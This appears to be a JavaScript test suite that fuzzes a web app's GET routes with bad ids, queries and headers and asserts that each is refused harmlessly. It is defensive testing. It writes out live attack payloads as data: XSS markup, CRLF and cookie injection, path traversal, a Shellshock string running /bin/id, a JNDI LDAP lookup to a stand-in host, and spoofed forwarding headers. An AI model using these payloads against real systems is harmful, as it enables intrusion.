// Addresses, queries and headers of every route that reads: records that are not there, names that
// are none, parameters twice and endless, headers that mean nothing. Reading changes nothing.

import assert from "node:assert/strict";
import test from "node:test";
import { refusedJson, refusedPage, sound } from "./support/checks.mjs";
import { visitor } from "./support/people.mjs";
import { routes } from "./support/routes.mjs";
import { sample, stage, unchanged } from "./support/stage.mjs";
import { writtenDown } from "./support/written_down.mjs";

const reading = routes.filter(({ verb }) => verb === "GET");
const zero = "00000000-0000-4000-8000-000000000000";

const values = [
  ["nothing of that name", "nothing-of-that-name"],
  ["a record that is not there", zero],
  ["zero", "0"],
  ["minus one", "-1"],
  ["a number of 40 digits", "9".repeat(40)],
  ["half an id", zero.slice(0, 18)],
  ["an id in braces", `%7B${zero}%7D`],
  ["an id in capitals", zero.toUpperCase().replace("4000", "4ABC")],
  ["an id with a blank", `${zero}%20`],
  ["2,000 characters", "a".repeat(2000)],
  ["a quotation mark", "%27"],
  ["markup", "%3Cscript%3Eq()%3C%2Fscript%3E".replace("%2F", "")],
  ["two escapes", "%252e%252e"],
  ["a slash that is encoded", "a%2Fb"],
  ["a NUL that is encoded", "a%00"],
  ["dots", "%2e%2e"],
  ["a line end", "a%0d%0aX-Injected:%201"],
  ["an emoji", "%F0%9F%98%80"],
  ["right to left", "%E2%80%AE"],
  ["a semicolon", "a;b=c"],
  ["a star", "*"],
  ["undefined", "undefined"],
  ["null", "null"],
  ["a template", "%7B%7Bq%7D%7D"],
];

const queries = [
  ["unit twice", `unit=${zero}&unit=${zero}`],
  ["unit that is none", "unit=nothing"],
  ["unit of nobody", `unit=${zero}`],
  ["unit of 3,000 characters", `unit=${"a".repeat(3000)}`],
  ["a name without a value", "unit"],
  ["an empty name", "=1"],
  ["brackets", "unit[]=1&unit[a]=2"],
  ["markup", "saved=%3Cscript%3Eq()%3C/script%3E&done=%3Cb%3E&box=%3Ci%3E&state=%3Cu%3E"],
  [
    "an address elsewhere",
    "next=https://elsewhere.example/&from=//elsewhere.example&back=javascript:q()",
  ],
  ["199 parameters", Array.from({ length: 199 }, (_, at) => `a${at}=1`).join("&")],
  ["201 parameters", Array.from({ length: 201 }, (_, at) => `a${at}=1`).join("&")],
  ["bytes that are no text", "unit=%ff%fe"],
  ["a NUL", "box=%00"],
  ["a line end", "next=/%0d%0aSet-Cookie:%20a=b"],
  ["an escape cut short", "box=%4"],
  ["plus and blanks", "box=+%20+&state=+++"],
];

const headers = [
  [
    "any language",
    { "accept-language": "*;q=999,,;;xx-\u00e9".normalize("NFD").replace(/[^ -~]/g, "") },
  ],
  ["a language of 4,000 characters", { "accept-language": "en,".repeat(1300) }],
  ["nothing acceptable", { accept: "image/x-none;q=0" }],
  ["accept that is none", { accept: ";;;,,,/" }],
  ["a range", { range: "bytes=0-1" }],
  ["ranges without end", { range: `bytes=${"0-,".repeat(1000)}` }],
  ["a range that is none", { range: "bytes=9-1" }],
  ["if-match that is none", { "if-match": '"' }],
  ["if-none-match of anything", { "if-none-match": "*" }],
  ["if-modified-since in the year 0", { "if-modified-since": "Mon, 00 Jan 0000 99:99:99 GMT" }],
  ["the last event", { "last-event-id": "-1" }],
  ["an address of before", { "x-forwarded-for": "127.0.0.1, ::1", forwarded: "for=127.0.0.1" }],
  [
    "another host of before",
    { "x-forwarded-host": "elsewhere.example", "x-host": "elsewhere.example" },
  ],
  ["another method", { "x-http-method-override": "DELETE", "x-method-override": "DELETE" }],
  ["another address", { "x-original-url": "/board/people", "x-rewrite-url": "/board/people" }],
  ["another scheme", { "x-forwarded-proto": "http" }],
  ["basic", { authorization: "Basic YWRtaW46YWRtaW4=" }],
  ["a bearer that is none", { authorization: "Bearer '; select 1" }],
  ["a browser of 4,000 characters", { "user-agent": "a".repeat(4000) }],
  [
    "markup for a browser",
    { "user-agent": "<script>q()</script>", referer: "<script>q()</script>" },
  ],
  ["shellshock", { "user-agent": "() { :;}; echo; /bin/id" }],
  ["a lookup", { "user-agent": "${jndi:ldap://elsewhere.example/a}" }],
  ["coding that is none", { "accept-encoding": "xyz;q=1, *;q=0" }],
  ["a request id of another", { "x-request-id": "a\tb<script>" }],
];

// Whoever the table lets in.
async function readerOf(route) {
  const { who } = await stage();
  if (route.who === "council") return who("children's lead");
  if (route.who === "board") {
    const ofReviews = route.roles.includes("member") && !route.roles.includes("manager");
    return who(ofReviews ? "member" : "manager");
  }
  if (route.who === "anyone") return visitor();
  return who(
    route.roles.includes("authoriser") && !route.roles.includes("lead") ? "authoriser" : "lead",
  );
}

const ask = (reader, route, path, more) =>
  route.surface === "api"
    ? reader.api("GET", path.replace("/api/v1", ""), undefined, more)
    : reader.get(path, more);

const refused = (route) => (route.surface === "api" ? refusedJson : refusedPage);
const fill = (pattern, at, value) => {
  let n = -1;
  return pattern.replace(/\{[^}]+\}/g, () => ((n += 1) === at ? value : zero));
};

// A page for anybody may say in words that there is no such thing, with 200.
function absent(route, answer) {
  sound(answer);
  if (route.who === "anyone" && [200, 404].includes(answer.status)) return;
  // A name that leads nowhere, and a page that shows the whole when it knows no such part.
  refused(route)(answer, [400, 404, 414]);
}

test("no route reads what is not there", async () => {
  const cases = [];
  for (const route of reading) {
    const slots = [...route.pattern.matchAll(/\{([^}]+)\}/g)];
    const reader = await readerOf(route);
    slots.forEach(([, slot], at) => {
      for (const [name, value] of values) {
        cases.push({
          name: `${route.pattern}, ${slot}: ${name}`,
          run: () => ask(reader, route, fill(route.pattern, at, value)),
          check: (answer) => absent(route, answer),
        });
      }
    });
  }
  assert.ok(cases.length >= 500);
  await unchanged("addresses", sample("addresses", cases, 400), { batch: 60 });
});

test("no query breaks a page, and none is more than a query", async () => {
  const { pages } = await stage();
  const one = new Map(pages.map((page) => [page.pattern, page]));
  const cases = [];
  for (const { who, path, pattern } of one.values()) {
    for (const [name, query] of queries) {
      cases.push({
        name: `${pattern}?${name}`,
        may: writtenDown.get(pattern),
        run: () => who.get(`${path.split("?")[0]}?${query}`),
        check: (answer) => {
          sound(answer);
          assert.ok([200, 303, 400, 404, 414, 422].includes(answer.status), `${answer.status}`);
          assert.ok(
            !/<script>q|<b><|javascript:q/.test(answer.text),
            "the query is in the page raw",
          );
          const to = answer.headers.location ?? "/";
          assert.ok(to.startsWith("/") && !to.startsWith("//"), `it leads to ${to}`);
          assert.ok(!(answer.headers["set-cookie"] ?? []).some((line) => line.startsWith("a=b")));
        },
      });
    }
  }
  await unchanged("queries", sample("queries", cases, 200), { batch: 60 });
});

test("no header is more than a header", async () => {
  const { pages } = await stage();
  const one = new Map(pages.map((page) => [page.pattern, page]));
  const cases = [];
  for (const { who, path, pattern } of one.values()) {
    for (const [name, more] of headers) {
      cases.push({
        name: `${pattern}: ${name}`,
        may: writtenDown.get(pattern),
        run: () => who.get(path, more),
        check: (answer) => {
          sound(answer);
          assert.ok(
            [200, 206, 303, 304, 401, 406, 416, 431].includes(answer.status),
            `${answer.status}`,
          );
          assert.ok(!/elsewhere\.example|<script>q/.test(answer.text), "the header is in the page");
          assert.ok(!(answer.headers.location ?? "").includes("elsewhere"), "it leads elsewhere");
        },
      });
    }
  }
  await unchanged("headers", sample("headers", cases, 200), { batch: 60 });
});
